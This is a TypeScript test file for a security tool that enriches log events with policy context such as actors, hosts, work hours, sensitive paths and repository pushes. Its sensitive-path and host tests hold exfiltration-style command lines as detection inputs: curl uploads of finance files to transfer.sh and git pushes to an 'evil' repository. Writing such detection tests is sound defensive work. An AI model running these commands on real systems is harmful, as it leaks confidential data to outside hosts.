/** Actors, hosts, addresses, hours, paths and repository audit: what policy adds to an event. */
import { describe, expect, test } from "vitest";
import { loadCatalogue } from "../../../content/load-catalogue.ts";
import type { Context, OcsfEvent } from "../../../model/activity.ts";
import type { Policy } from "../../../model/policy.ts";
import { CONTEXT_FIELDS } from "./fields.ts";
import { createContextBuilder } from "./index.ts";

const catalogue = loadCatalogue();
const policy: Policy = {
  organization: "Acme",
  sanctioned: {
    repositories: ["github.com/acme/*", "gitlab.acme.example/*"],
    hosts: [
      { match: "dev-*", role: "developer" },
      { match: "ci-*", role: "pipeline", repositories: ["github.com/acme/*"] },
      { match: "srv-*", role: "server", repositories: [] },
      { match: "ci-special", role: "never: the first entry counts" },
    ],
    users: ["*@acme.example"],
    service_accounts: [{ match: "acme-ci-bot", hosts: ["ci-*"], repositories: ["github.com/acme/*"] }],
    addresses: ["10.1.0.0/16", "2001:db8:1::/48", "203.0.113.9"],
  },
  inventory: [
    { address: "10.1.4.17", host: "WS-017.acme.example", user: "alice@acme.example" },
    { address: "2001:db8:1::17", host: "dev-3" },
  ],
  people: [
    { user: "alice@acme.example", logins: ["alice-acme"], team: "finance", developer: false },
    { user: "bob@acme.example", logins: ["bob", "BobDev"], team: "platform", developer: true },
    { user: "kim@acme.example" },
    { user: "kim@partner.example" },
  ],
  on_call: [
    { user: "bob@acme.example", from: "2026-03-21T18:00", to: "2026-03-22T08:00" },
    { user: "kim@acme.example", from: "22:00", to: "02:00" },
  ],
  WorkHours: { timezone: "Europe/Berlin", days: ["mon", "tue", "wed", "thu", "fri"], from: "07:00", to: "20:00" },
  sensitive_paths: ["*\\Finance\\*", "/srv/finance/*", "*/Documents/*"],
};
const build = createContextBuilder(catalogue, policy);
const silent = createContextBuilder(catalogue, null);

function event(fields: object): OcsfEvent {
  return {
    class_uid: 1007,
    activity_id: 1,
    time: 0,
    metadata: { product: { name: "Test" } },
    ...fields,
  } as unknown as OcsfEvent;
}

describe("actor", () => {
  const actor = (user: object, more: object = {}): Context["actor"] => build(event({ actor: { user }, ...more })).actor;

  test.each([
    [{ name: "alice-acme" }, "alice@acme.example", ["alice@acme.example", "alice-acme"], true],
    [{ name: "BOBDEV" }, "bob@acme.example", ["bob@acme.example", "bobdev"], true],
    [{ name: "alice", domain: "ACME" }, "alice@acme.example", ["alice@acme.example", "alice"], true],
    [{ name: "ACME\\alice" }, "alice@acme.example", ["alice@acme.example", "alice"], true],
    [{ name: "Alice@ACME.example" }, "alice@acme.example", ["alice@acme.example"], true],
    [{ name: "ag", email_addr: "alice@acme.example" }, "alice@acme.example", ["alice@acme.example", "ag"], true],
    [{ name: "carol", email_addr: "carol@acme.example" }, "carol@acme.example", ["carol@acme.example", "carol"], true],
    [{ name: "carol" }, "carol", ["carol"], false],
    [{ name: "kim" }, "kim", ["kim"], false],
    [{ name: "mallory@evil.example" }, "mallory@evil.example", ["mallory@evil.example"], false],
  ])("%j is %s", (user, name, names, sanctioned) => {
    expect(actor(user)).toMatchObject({ name, names, sanctioned });
  });

  test("team and developer come from people", () => {
    expect(actor({ name: "bob" })).toMatchObject({ team: "platform", developer: true });
    expect(actor({ name: "kim@acme.example" })).toMatchObject({ team: null, developer: null });
  });

  test.each([
    { name: "root" },
    { name: "SYSTEM", domain: "NT AUTHORITY" },
    { name: "NT AUTHORITY\\NETWORK SERVICE" },
    { name: "Administrator" },
    { name: "DWM-1", domain: "Window Manager" },
  ])("%j is nobody in particular", (user) => {
    expect(actor(user)).toMatchObject({ shared_account: true, sanctioned: null });
  });

  test.each([{ name: "-" }, { name: "unknown" }, { name: "" }, { uid: "1000" }, { name: "x".repeat(400) }])(
    "%j names nobody",
    (user) => {
      expect(actor(user).name).toBeNull();
    },
  );

  test("service accounts", () => {
    expect(actor({ name: "dependabot[bot]" })).toMatchObject({
      name: "dependabot[bot]",
      service_account: true,
      sanctioned: false,
    });
    expect(actor({ name: "WS-017$", domain: "ACME" })).toMatchObject({ service_account: true });
    expect(actor({ name: "robot", type_id: 4 })).toMatchObject({ service_account: true });
    expect(actor({ name: "acme-ci-bot" }, { device: { hostname: "ci-02.acme.example" } })).toMatchObject({
      service_account: true,
      sanctioned: true,
    });
    expect(actor({ name: "acme-ci-bot" }, { device: { hostname: "ws-017" } })).toMatchObject({
      service_account: true,
      sanctioned: false,
    });
    expect(
      actor(
        { name: "acme-ci-bot" },
        { device: { hostname: "ci-02" }, process: { cmd_line: "git push https://github.com/evil/x" } },
      ),
    ).toMatchObject({ sanctioned: false });
    expect(
      actor({ name: "acme-ci-bot" }, { process: { cmd_line: "git push https://github.com/acme/x" } }),
    ).toMatchObject({ sanctioned: true });
  });

  test("who signs in is the user, not the machine that checks", () => {
    expect(
      build(event({ class_uid: 3002, user: { name: "alice-acme" }, actor: { user: { name: "DC-01$" } } })).actor.name,
    ).toBe("alice@acme.example");
  });

  test("an address tells who sits there when the event names nobody", () => {
    expect(build(event({ class_uid: 4001, src_endpoint: { ip: "10.1.4.17" } })).actor).toMatchObject({
      name: "alice@acme.example",
      team: "finance",
    });
    expect(
      build(event({ class_uid: 4001, src_endpoint: { ip: "10.1.4.17" }, actor: { user: { name: "bob" } } })).actor.name,
    ).toBe("bob@acme.example");
  });

  test("without a policy names stay as they are", () => {
    expect(silent(event({ actor: { user: { name: "Alice", email_addr: "A@b.example" } } })).actor).toMatchObject({
      name: "a@b.example",
      names: ["a@b.example", "alice"],
      sanctioned: null,
    });
  });
});

describe("host", () => {
  const push = { process: { cmd_line: "git push https://github.com/evil/x" } };
  test.each([
    [{ device: { hostname: "DEV-1.acme.example." } }, { name: "dev-1", role: "developer", sanctioned: true }],
    [{ device: { hostname: "ci-special" } }, { name: "ci-special", role: "pipeline", sanctioned: true }],
    [
      { device: { hostname: "ci-1" }, ...push },
      { name: "ci-1", role: "pipeline", sanctioned: false },
    ],
    [
      { device: { hostname: "dev-1" }, ...push },
      { name: "dev-1", role: "developer", sanctioned: true },
    ],
    [
      { device: { hostname: "ci-1" }, process: { cmd_line: "git push https://github.com/acme/x" } },
      { name: "ci-1", role: "pipeline", sanctioned: true },
    ],
    [
      { device: { hostname: "srv-9" }, process: { cmd_line: "git push https://github.com/acme/x" } },
      { name: "srv-9", role: "server", sanctioned: false },
    ],
    [{ device: { hostname: "printer" } }, { name: "printer", role: null, sanctioned: false }],
    [{ device: { name: "unknown", type_id: 0 } }, { name: null, role: null, sanctioned: null }],
    [{ src_endpoint: { ip: "10.1.4.17" } }, { name: "ws-017", role: null, sanctioned: false }],
    [{ src_endpoint: { ip: "2001:0DB8:1:0:0:0:0:17" } }, { name: "dev-3", role: "developer", sanctioned: true }],
    [{ src_endpoint: { hostname: "dev-7.acme.example" } }, { name: "dev-7", role: "developer", sanctioned: true }],
    [{ device: { hostname: "10.1.2.3" } }, { name: "10.1.2.3", role: null, sanctioned: false }],
    [{}, { name: null, role: null, sanctioned: null }],
  ])("%j", (fields, expected) => {
    expect(build(event(fields)).host).toEqual(expected);
  });

  test("without a policy", () => {
    expect(silent(event({ device: { hostname: "WS-1" } })).host).toEqual({
      name: "ws-1",
      role: null,
      sanctioned: null,
    });
  });
});

test.each([
  ["10.1.4.17", "10.1.4.17", true],
  ["10.2.0.1", "10.2.0.1", false],
  ["203.0.113.9", "203.0.113.9", true],
  ["203.0.113.10", "203.0.113.10", false],
  ["2001:0db8:0001:0000:0000:0000:0000:0017", "2001:db8:1::17", true],
  ["2001:DB8:2::1", "2001:db8:2::1", false],
  ["fe80::1%eth0", "fe80::1", false],
  ["::ffff:10.1.4.17", "10.1.4.17", true],
  ["nonsense", "nonsense", false],
])("address %s is %s, sanctioned: %s", (ip, normal, sanctioned) => {
  expect(build(event({ src_endpoint: { ip } })).address).toEqual({ ip: normal, sanctioned });
  expect(silent(event({ device: { ip } })).address).toEqual({ ip: normal, sanctioned: null });
});

describe("work hours", () => {
  const at = (iso: string, user = "alice-acme"): boolean | null =>
    build(event({ time: Date.parse(iso), actor: { user: { name: user } } })).work_hours;
  test.each([
    // Friday, winter: Berlin is an hour ahead
    ["2026-03-20T05:59:59Z", false],
    ["2026-03-20T06:00:00Z", true],
    ["2026-03-20T18:59:59Z", true],
    ["2026-03-20T19:00:00Z", false],
    ["2026-03-21T12:00:00Z", false],
    // Monday after the clocks went forward on 29 March
    ["2026-03-30T04:59:59Z", false],
    ["2026-03-30T05:00:00Z", true],
    ["2026-03-30T17:59:59Z", true],
    ["2026-03-30T18:00:00Z", false],
    // Monday after they went back on 25 October
    ["2026-10-26T05:59:59Z", false],
    ["2026-10-26T06:00:00Z", true],
    // Sunday 23:30 UTC is Monday in Berlin, at night
    ["2026-03-22T23:30:00Z", false],
  ])("%s: %s", (iso, expected) => {
    expect(at(iso)).toBe(expected);
  });

  test("on call is at work, for the person on call", () => {
    expect(at("2026-03-21T17:00:00Z", "bob")).toBe(true);
    expect(at("2026-03-21T16:59:59Z", "bob")).toBe(false);
    expect(at("2026-03-22T06:59:59Z", "bob")).toBe(true);
    expect(at("2026-03-22T07:00:00Z", "bob")).toBe(false);
    expect(at("2026-03-21T17:00:00Z")).toBe(false);
    expect(at("2026-03-20T21:30:00Z", "kim@acme.example")).toBe(true);
    expect(at("2026-03-21T00:59:00Z", "kim@acme.example")).toBe(true);
    expect(at("2026-03-21T01:00:00Z", "kim@acme.example")).toBe(false);
  });

  test("past midnight belongs to the day the hours begin on", () => {
    const nights = createContextBuilder(catalogue, { WorkHours: { days: ["fri"], from: "22:00", to: "06:00" } });
    const within = (iso: string): boolean | null => nights(event({ time: Date.parse(iso) })).work_hours;
    expect(within("2026-03-20T22:00:00Z")).toBe(true);
    expect(within("2026-03-21T05:59:59Z")).toBe(true);
    expect(within("2026-03-21T06:00:00Z")).toBe(false);
    expect(within("2026-03-20T05:00:00Z")).toBe(false);
  });

  test("defaults: Monday to Friday, all day, UTC; none without policy", () => {
    const days = createContextBuilder(catalogue, { WorkHours: {} });
    expect(days(event({ time: Date.parse("2026-03-20T23:59:59Z") })).work_hours).toBe(true);
    expect(days(event({ time: Date.parse("2026-03-21T00:00:00Z") })).work_hours).toBe(false);
    expect(silent(event({})).work_hours).toBeNull();
  });

  test.each(["Australia/Lord_Howe", "Asia/Kathmandu", "America/St_Johns", "Pacific/Apia", "America/New_York"])(
    "%s agrees with Intl around the year",
    (timezone) => {
      const zoned = createContextBuilder(catalogue, {
        WorkHours: { timezone, days: ["mon", "wed", "sun"], from: "06:30", to: "17:15" },
      });
      const format = new Intl.DateTimeFormat("en-US", {
        timeZone: timezone,
        weekday: "short",
        hour: "2-digit",
        minute: "2-digit",
        hourCycle: "h23",
      });
      for (
        let time = Date.parse("2026-01-01T00:00:00Z");
        time < Date.parse("2027-01-01T00:00:00Z");
        time += 7_000_007
      ) {
        const parts = new Map(format.formatToParts(time).map(({ type, value }) => [type, value]));
        const minutes = Number(parts.get("hour")) * 60 + Number(parts.get("minute"));
        const expected = ["Mon", "Wed", "Sun"].includes(parts.get("weekday") ?? "") && minutes >= 390 && minutes < 1035;
        expect(zoned(event({ time })).work_hours, new Date(time).toISOString()).toBe(expected);
      }
    },
  );
});

describe("sensitive paths", () => {
  test.each([
    [{ file: { path: "D:\\Data\\Finance\\q1.xlsx" } }, true],
    [{ file: { path: "d:\\data\\FINANCE\\q1.xlsx" } }, true],
    [{ file: { path: "D:\\Data\\Financed\\q1.xlsx" } }, false],
    [{ file: { path: "/srv/finance/q1.csv" } }, true],
    [{ file: { path: "/srv/FINANCE/q1.csv" } }, false],
    [{ file: { path: "/srv/finances" } }, false],
    [{ file: { path: "/srv/finance" } }, true],
    [{ file: { path: "/Users/alice/documents/x" } }, true],
    [{ file: { path: "/home/alice/Documents/x" } }, true],
    [{ file: { path: "/home/alice/documents/x" } }, false],
    [{ process: { cmd_line: "tar czf /tmp/x.tgz /srv/finance" } }, true],
    [{ process: { cmd_line: "tar czf /tmp/x.tgz /srv/other" } }, false],
    [{ process: { cmd_line: '"C:\\7z.exe" a x.7z "C:\\Data\\Finance\\Q 1"' } }, true],
    [{ process: { cmd_line: "curl -T /srv/finance/q1.csv https://transfer.sh" } }, true],
    [{ process: { cmd_line: "curl --data-binary @/srv/finance/q1.csv https://transfer.sh" } }, true],
    [{ process: { cmd_line: "curl -F file=@/srv/finance/q1.csv https://transfer.sh" } }, true],
    [{ process: { cmd_line: "x --input=/srv/finance/q1.csv" } }, true],
    [{ process: { cmd_line: "tar czf x.tgz finance", working_directory: "/srv" } }, true],
    [{ process: { cmd_line: "tar czf x.tgz .", working_directory: "/srv/finance" } }, true],
    [{ process: { cmd_line: "git add .", working_directory: "/srv/finance/app" } }, true],
    [{ process: { cmd_line: "git push origin main", working_directory: "/srv/finance/app" } }, false],
    [{ process: { cmd_line: "zip -r x.zip *", working_directory: "C:\\Data\\Finance" } }, true],
    [{ process: { cmd_line: "curl https://x.example/srv/finance/a" } }, false],
    [{ process: { cmd_line: "echo finance" } }, false],
    [{}, false],
  ])("%j: %s", (fields, expected) => {
    expect(build(event(fields)).sensitive_path).toBe(expected);
    expect(silent(event(fields)).sensitive_path).toBe(false);
  });
});

describe("repository audit", () => {
  const audit = (product: string, operation: string, fields: object = {}, from = build): string | null => {
    const destination = from(
      event({
        class_uid: 6003,
        metadata: { product: { name: product } },
        api: { operation, service: { name: product } },
        ...fields,
      }),
    ).destination;
    return destination === null
      ? null
      : `${destination.name} ${destination.endpoint} ${destination.operation} ${destination.verdict} ${destination.visibility} ${destination.seen_by}`;
  };
  const repository = (name: string): object => ({ resources: [{ name, type: "repository" }] });

  test.each([
    ["git.push", repository("acme/Tools"), "github.com/acme/tools git push sanctioned unknown audit"],
    [
      "git.push",
      { ...repository("evil/x"), unmapped: { transport_protocol_name: "ssh", visibility: "public" } },
      "github.com/evil/x ssh push unsanctioned public audit",
    ],
    ["git.clone", repository("acme/tools"), "github.com/acme/tools git fetch sanctioned unknown audit"],
    ["repo.download_zip", repository("acme/tools"), "github.com/acme/tools git fetch sanctioned unknown audit"],
    [
      "repo.create",
      { ...repository("acme/x"), unmapped: { visibility: "public" } },
      "github.com/acme/x api create sanctioned public audit",
    ],
    [
      "repo.access",
      { ...repository("acme/x"), unmapped: { visibility: "public", previous_visibility: "private" } },
      "github.com/acme/x api share sanctioned public audit",
    ],
    [
      "repo.access",
      { ...repository("acme/x"), unmapped: { visibility: "private", previous_visibility: "public" } },
      "github.com/acme/x api change sanctioned private audit",
    ],
    ["public", repository("acme/x"), "github.com/acme/x api share sanctioned unknown audit"],
    ["repository.publicized", repository("acme/x"), "github.com/acme/x api share sanctioned unknown audit"],
    ["push", repository("acme/x"), "github.com/acme/x git push sanctioned unknown audit"],
    ["repo.destroy", repository("acme/x"), "github.com/acme/x api delete sanctioned unknown audit"],
    [
      "gist.create",
      { resources: [{ name: "abc", type: "gist", owner: { name: "Alice-Acme" } }] },
      "gist.github.com/alice-acme gist upload unsanctioned unknown audit",
    ],
    [
      "org.add_member",
      { resources: [{ name: "acme", type: "organization" }] },
      "github.com/acme api change sanctioned unknown audit",
    ],
    ["some.new_action", {}, "github.com api change unknown unknown audit"],
    [
      "api.request",
      { ...repository("evil/x"), http_request: { http_method: "PUT", url: { path: "/repos/evil/x/contents/a" } } },
      "github.com/evil/x api upload unsanctioned unknown audit",
    ],
    [
      "git.push",
      { ...repository("team/app"), dst_endpoint: { hostname: "ghes.acme.example" } },
      "ghes.acme.example/team/app git push unsanctioned unknown audit",
    ],
    ["git.push", { ...repository("../../x"), unmapped: {} }, "github.com/x git push unsanctioned unknown audit"],
  ])("GitHub %s %j", (operation, fields, expected) => {
    expect(audit("GitHub", operation, fields)).toBe(expected);
  });

  test.each([
    [
      "GitLab",
      "repository_git_operation",
      { ...repository("team/app"), unmapped: { git_operation: "push" } },
      "gitlab.acme.example/team/app git push sanctioned unknown audit",
    ],
    [
      "GitLab",
      "project_visibility_level_updated",
      { ...repository("team/app"), unmapped: { visibility: "public", previous_visibility: "private" } },
      "gitlab.acme.example/team/app api share sanctioned public audit",
    ],
    [
      "Azure DevOps",
      "Git.CreateRepo",
      repository("proj/app"),
      "dev.azure.com/proj/app api create unsanctioned unknown audit",
    ],
    [
      "Azure DevOps",
      "Security.ModifyPermission",
      { resources: [{ name: "org/proj", type: "project" }], dst_endpoint: { hostname: "dev.azure.com" } },
      "dev.azure.com/org/proj api change unsanctioned unknown audit",
    ],
    [
      "Azure DevOps",
      "Git.CreateRepo",
      { ...repository("org/proj/app"), dst_endpoint: { hostname: "dev.azure.com" } },
      "dev.azure.com/org/proj/app api create unsanctioned unknown audit",
    ],
    [
      "Bitbucket Data Center",
      "repositorycreated",
      repository("SHOP/app"),
      "bitbucket/shop/app api create unsanctioned unknown audit",
    ],
    [
      "Gitea",
      "git.push",
      { ...repository("team/app"), dst_endpoint: { hostname: "gitea.acme.example" } },
      "gitea.acme.example/team/app git push unsanctioned unknown audit",
    ],
    [
      "GitLab",
      "api.request",
      { http_request: { http_method: "POST", url: { path: "/api/v4/projects/team%2Fapp/repository/commits" } } },
      "gitlab.acme.example/team/app api upload sanctioned unknown audit",
    ],
    [
      "Bitbucket Cloud",
      "repo:updated",
      { ...repository("team/app"), unmapped: { visibility: "public", previous_visibility: "private" } },
      "bitbucket.org/team/app api share unsanctioned public audit",
    ],
    [
      "Bitbucket Cloud",
      "repo:updated",
      { ...repository("team/app"), unmapped: { visibility: "public" } },
      "bitbucket.org/team/app api change unsanctioned public audit",
    ],
    [
      "Bitbucket",
      "repository.push",
      repository("team/app"),
      "bitbucket.org/team/app git push unsanctioned unknown audit",
    ],
  ])("%s %s", (product, operation, fields, expected) => {
    expect(audit(product, operation, fields)).toBe(expected);
  });

  test("a transfer that tells its size is a network event", () => {
    const fields = {
      class_uid: 4002,
      api: { operation: "git.push", service: { name: "GitHub" } },
      dst_endpoint: { hostname: "ghe-01" },
      unmapped: { repo_name: "team/app" },
      http_request: { http_method: "POST", url: { hostname: "ghe-01", path: "/team/app.git/git-receive-pack" } },
    };
    expect(audit("GitHub", "git.push", fields)).toBe("ghe-01/team/app git push unsanctioned unknown audit");
  });

  test("CodeCommit in CloudTrail", () => {
    const fields = {
      dst_endpoint: { hostname: "git-codecommit.eu-central-1.amazonaws.com" },
      api: { operation: "GitPush", service: { name: "codecommit.amazonaws.com" } },
      resources: [{ name: "tools", type: "repository" }],
    };
    expect(audit("CloudTrail", "GitPush", fields)).toBe(
      "git-codecommit.eu-central-1.amazonaws.com/tools git push unsanctioned unknown audit",
    );
    expect(
      audit("CloudTrail", "x", { api: { operation: "PutObject", service: { name: "s3.amazonaws.com" } } }),
    ).toBeNull();
  });

  test("a product whose server does not name itself", () => {
    const only = (repositories: string[]): ReturnType<typeof createContextBuilder> =>
      createContextBuilder(catalogue, { sanctioned: { repositories } });
    const push = { ...repository("team/app"), unmapped: { git_operation: "push" } };
    expect(audit("GitLab", "x", push, only(["github.com/acme/*"]))).toMatch(/^gitlab\.com\/team\/app /);
    expect(audit("GitLab", "x", push, only(["gitlab.com/team/*"]))).toMatch(/^gitlab\.com\/team\/app .* sanctioned/);
    expect(audit("GitLab", "x", push, only(["github.com/acme/*", "code.a.example/*"]))).toMatch(
      /^code\.a\.example\/team\/app .* sanctioned/,
    );
    expect(audit("GitLab", "x", push, only(["gitlab.com/acme/*", "code.a.example/*"]))).toMatch(/^gitlab\.com\/team/);
    expect(audit("GitLab", "x", push, only(["gitlab.a.example/*", "gitlab.b.example/*"]))).toMatch(
      /^gitlab\.com\/team\/app /,
    );
    const bare = { ...repository("team/app"), dst_endpoint: { hostname: "ghe-01" } };
    expect(audit("GitHub", "git.push", bare, only(["github.acme.example/*"]))).toMatch(
      /^github\.acme\.example\/team\/app /,
    );
    expect(audit("GitHub", "git.push", bare, only(["ghe-01.acme.example/*"]))).toMatch(
      /^ghe-01\.acme\.example\/team\/app /,
    );
    expect(audit("GitHub", "git.push", bare, only(["github.com/acme/*"]))).toMatch(/^ghe-01\/team\/app /);
  });
});

test("the table of fields is what is produced, in order", () => {
  const context = build(
    event({
      class_uid: 4002,
      actor: { user: { name: "bob" } },
      device: { hostname: "dev-1" },
      src_endpoint: { ip: "10.1.4.17" },
      http_request: {
        http_method: "POST",
        url: { scheme: "https", hostname: "github.com", path: "/acrne/x.git/git-receive-pack" },
      },
    }),
  );
  const names: string[] = [];
  const walk = (value: unknown, path: string): void => {
    if (typeof value === "object" && value !== null && !Array.isArray(value))
      for (const [key, inner] of Object.entries(value)) walk(inner, `${path}.${key}`);
    else names.push(path);
  };
  walk(context, "context");
  expect(CONTEXT_FIELDS.map(({ name }) => name)).toEqual(names);
  for (const { name, type } of CONTEXT_FIELDS) {
    const value = name
      .split(".")
      .slice(1)
      .reduce<unknown>((current, key) => (current as Record<string, unknown>)[key], context);
    if (value === null) continue;
    if (type === "string list") expect(Array.isArray(value), name).toBe(true);
    else if (type === "true or false") expect(typeof value, name).toBe("boolean");
    else expect(typeof value, name).toBe("string");
    if (type.startsWith("one of ")) expect(type.slice(7).split(", ")).toContain(value);
  }
});

test("the context without anything to say has the same shape", () => {
  expect(silent(event({}))).toEqual({
    actor: {
      name: null,
      names: [],
      sanctioned: null,
      service_account: false,
      shared_account: false,
      developer: null,
      team: null,
    },
    host: { name: null, role: null, sanctioned: null },
    address: { ip: null, sanctioned: null },
    destination: null,
    object_storage: null,
    work_hours: null,
    sensitive_path: false,
  });
});
